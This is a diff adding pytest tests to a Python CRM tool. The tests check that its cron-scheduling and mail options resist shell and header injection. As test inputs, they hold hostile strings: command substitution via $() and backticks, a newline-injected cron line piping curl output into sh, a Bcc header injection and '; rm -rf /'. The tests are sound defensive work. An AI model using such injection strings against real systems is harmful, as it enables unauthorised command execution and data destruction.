@@ -16,6 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from crmkit import bundle
+from crmkit.cli import main
 from crmkit.errors import CrmkitError
 from crmkit.inert import FORMULA_STARTS
 from crmkit.pull import amocrm, base, salesforce
@@ -359,3 +360,74 @@ def test_a_pipedrive_deal_id_that_is_not_a_whole_number_stops_the_pull(tmp_path,
         pipedrive._flows(tmp_path)
     (tmp_path / "deals-0001.json").write_text(json.dumps({"data": [{"id": 7}, {"id": "8"}]}))
     assert [r.path for r in pipedrive._flows(tmp_path)] == ["/deals/7/flow", "/deals/8/flow"]
+
+
+# --- cron lines ---------------------------------------------------------------------------------
+
+
+def _as_cron_runs(line: str) -> str:
+    """The command cron gives the shell for a crontab line: after the five time fields, up to the
+    first unescaped `%` (the rest is standard input), with `\\%` as `%`."""
+    command = line.split(None, 5)[5]
+    command = re.split(r"(?<!\\)%", command)[0]
+    return command.replace("\\%", "%")
+
+
+def test_a_cron_line_runs_crmkit_with_each_argument_as_given(tmp_path, monkeypatch, capsys):
+    """Each hostile argument reaches crmkit whole and runs nothing: the lines are run as cron would
+    run them, through sh, with a stand-in crmkit that writes down its arguments."""
+    import stat
+    import subprocess
+    import sys
+
+    python, marker = sys.executable, tmp_path / "pwned"
+    stub = tmp_path / "bin" / "crmkit"
+    stub.parent.mkdir()
+    record = f"open({str(tmp_path / 'argv')!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')"
+    stub.write_text(f"#!{python}\nimport json, sys\n{record}\n")
+    stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
+    monkeypatch.setattr(sys, "executable", str(tmp_path / "bin" / "python"))
+    monkeypatch.chdir(tmp_path)
+    tz = f"UTC; touch {marker} #"
+    base_url = f"https://x.amocrm.ru/$(touch {marker})`touch {marker}`"
+    out = "reports/100%/%Y"
+    table = tmp_path / "crontab.txt"
+    fake = tmp_path / "crontab"
+    fake.write_text(f"#!{python}\nimport sys\nf = {str(table)!r}\n"
+                    "if sys.argv[1] == '-l':\n    sys.exit(1)\n"
+                    "open(f, 'w').write(sys.stdin.read())\n")  # fmt: skip
+    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
+    monkeypatch.setenv("CRMKIT_CRONTAB", str(fake))
+    args = ["schedule", "--install", "--db", "it's.duckdb", "--out", out, "--pull", "amocrm",
+            "--base-url", base_url, "--raw", "raw dir", "--tz", tz, "--mail", "boss@example.com"]  # fmt: skip
+    assert main(args) == 0
+    entries = [line for line in table.read_text().splitlines() if line and not line.startswith("#")]
+    assert len(entries) == 4  # two pulls, the week, the month: no entry added by an argument
+    for line in entries:
+        subprocess.run(["sh", "-c", _as_cron_runs(line)], check=True)
+    assert not marker.exists()
+    runs = [json.loads(line) for line in (tmp_path / "argv").read_text().splitlines()]
+    pulls, week, month = runs[:2], runs[2], runs[3]
+    assert pulls[0] == ["pull", "amocrm", "--base-url", base_url, "--out", "raw dir", "--load",
+                        "--db", "it's.duckdb", "--tz", tz]  # fmt: skip
+    assert week[:6] == ["report", "--db", "it's.duckdb", "--out", out, "--lang"]
+    assert re.fullmatch(r"\d{4}-\d\d-\d\d", week[week.index("--week") + 1])  # date's own % still works
+    assert re.fullmatch(r"\d{4}-\d\d", month[month.index("--month") + 1])
+    assert week[-2:] == month[-2:] == ["--mail", "boss@example.com"]
+
+
+@pytest.mark.parametrize("option", ["--db", "--base-url", "--tz", "--out", "--raw"])
+def test_a_control_character_in_a_cron_argument_is_refused(option, capsys):
+    args = {"--db": "a.duckdb", "--base-url": "https://x.amocrm.ru", "--tz": "UTC", "--out": "r",
+            "--raw": "raw"}  # fmt: skip
+    args[option] = args[option] + "\n* * * * * curl http://127.0.0.1:9/x | sh"
+    code = main(["schedule", "--pull", "amocrm", *[part for pair in args.items() for part in pair]])
+    err = capsys.readouterr().err.strip()
+    assert code == 2 and "control character" in err and len(err.splitlines()) == 1
+
+
+@pytest.mark.parametrize("to", ["boss@example.com\r\nBcc: all@evil.example", "nobody", "a@b.ru; rm -rf /"])
+def test_mail_addresses_are_checked_before_any_work(to, tmp_path, capsys):
+    code = main(["report", "--db", str(tmp_path / "none.duckdb"), "--mail", to])
+    err = capsys.readouterr().err.strip()
+    assert code == 2 and err.startswith("crmkit: error: --mail ") and "not e-mail addresses" in err
